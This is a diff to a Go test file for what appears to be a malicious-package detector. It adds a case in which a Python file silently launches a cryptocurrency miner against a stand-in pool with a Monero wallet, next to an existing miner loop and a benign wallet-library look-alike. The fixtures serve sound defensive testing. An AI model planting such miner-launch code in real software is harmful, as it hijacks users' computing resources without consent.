@@ -6,7 +6,10 @@ import "testing"
 // announcements by DNS and miners paid by address (issue 18, classes 2
 // and 7), each next to its nearest legitimate look-alike.
 func TestStagesAndProbes(t *testing.T) {
-	xmr := "4" + "8" + "AbCdEfGhJkLmNpQrStUvWxYz123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ1234567"
+	xmr := "4" + "8" + "AbCdEfGhJkLmNpQrStUvWxYz123456789abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ12345678899"
+	if len(xmr) != 95 {
+		t.Fatalf("the example address has %d characters, want 95", len(xmr))
+	}
 	tests := []struct {
 		name  string
 		files map[string]string
@@ -51,6 +54,8 @@ func TestStagesAndProbes(t *testing.T) {
 		{"downloaded program run with a miner's wallet", map[string]string{"p/proc.py": "" +
 			"import subprocess\ndef processing():\n    wallet = 'dero1qy25yfyzw00d5t0mt8pvtd9t4p7zp8x3zl06pwkhaj4zkuqhnmnv2qgakr6u7'\n" +
 			"    subprocess.Popen(['bash', '-c', 'while true; do /tmp/w -r pool.example:80 -w ' + wallet + '; sleep 5; done'])\n"}, "crypto-miner", Malicious},
+		{"a program started with a Monero address", map[string]string{"p/proc.py": "" +
+			"import subprocess\nWALLET = '" + xmr + "'\ndef start():\n    subprocess.Popen(['/tmp/w', '-o', 'pool.example:3333', '-u', WALLET])\n"}, "crypto-miner", Malicious},
 		{"a wallet library with an example address", map[string]string{"p/address.py": "" +
 			"EXAMPLE = '" + xmr + "'\ndef valid(addr):\n    return len(addr) == 95 and addr[0] in '48'\n"}, "", Clean},
 	}
